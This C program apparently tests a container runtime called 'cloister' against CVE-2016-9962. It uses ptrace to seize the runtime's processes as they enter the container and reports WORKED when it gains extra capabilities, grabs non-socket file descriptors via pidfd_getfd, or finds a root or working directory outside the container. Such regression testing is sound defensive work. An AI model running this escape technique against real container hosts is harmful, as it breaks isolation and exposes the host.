/*
 * Plays the attacker of CVE-2016-9962 in a container without a user namespace of its own: with CAP_SYS_PTRACE, which is
 * then the host's, it gets hold of every process that comes into its pid namespace and is not the container's
 * program yet. That cannot be prevented; so it looks for what it gains by it: a capability that it does not have, a
 * descriptor that is no socket, another root, a directory outside. Prints "seen N", "caught N", and WORKED for each
 * gain. Argument: seconds.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int seen, caught;
static unsigned long long ours;

static int read_file(const char *pid, const char *name, char *buf, size_t size)
{
	char path[300];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, buf, size - 1);
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return n > 0;
}

static int is_runtime(const char *pid)
{
	char comm[64];

	return read_file(pid, "comm", comm, sizeof comm) && strncmp(comm, "cloister", 8) == 0;
}

/* All capabilities that it has or can get. */
static unsigned long long capabilities(const char *pid)
{
	static const char *const sets[] = { "\nCapInh:", "\nCapPrm:", "\nCapEff:", "\nCapBnd:", "\nCapAmb:" };
	unsigned long long all = 0;
	char status[8192];

	read_file(pid, "status", status, sizeof status);
	for (size_t i = 0; i < 5; i++) {
		const char *found = strstr(status, sets[i]);

		if (found)
			all |= strtoull(found + 8, NULL, 16);
	}
	return all;
}

static void look_at_descriptors(const char *pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);

	for (int n = 3; pidfd >= 0 && n < 1024; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		struct stat st;

		if (fd >= 0 && fstat(fd, &st) == 0 && !S_ISSOCK(st.st_mode))
			printf("WORKED descriptor %d of type %o\n", n, st.st_mode & S_IFMT);
		if (fd >= 0)
			close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void look_at_files(const char *pid)
{
	char path[300], cwd[4096];
	struct stat theirs, root;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%s/root", pid);
	if (stat(path, &theirs) == 0 && stat("/", &root) == 0 &&
	    (theirs.st_ino != root.st_ino || theirs.st_dev != root.st_dev))
		printf("WORKED root\n");
	snprintf(path, sizeof path, "/proc/%s/cwd", pid);
	n = readlink(path, cwd, sizeof cwd - 1);
	cwd[n > 0 ? n : 0] = '\0';
	if (n > 0 && (cwd[0] != '/' || strcmp(cwd, "/") != 0))
		printf("WORKED working directory %s\n", cwd);
}

static void attack(const char *pid)
{
	int id = atoi(pid), status;
	unsigned long long theirs;

	seen++;
	if (ptrace(PTRACE_SEIZE, id, NULL, NULL) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, id, NULL, NULL) == 0 && waitpid(id, &status, __WALL) == id && WIFSTOPPED(status) &&
	    is_runtime(pid)) {
		caught++;
		theirs = capabilities(pid);
		if (theirs & ~ours)
			printf("WORKED capabilities %llx, ours are %llx\n", theirs, ours);
		look_at_descriptors(pid);
		look_at_files(pid);
	}
	ptrace(PTRACE_DETACH, id, NULL, NULL);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc == 2 ? atoi(argv[1]) : 0);

	ours = capabilities("self");
	while (argc == 2 && time(NULL) <= end) {
		DIR *d = opendir("/proc");
		struct dirent *entry;

		while (d && (entry = readdir(d)))
			if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid() &&
			    is_runtime(entry->d_name))
				attack(entry->d_name);
		if (d)
			closedir(d);
	}
	printf("seen %d\ncaught %d\n", seen, caught);
	return 0;
}
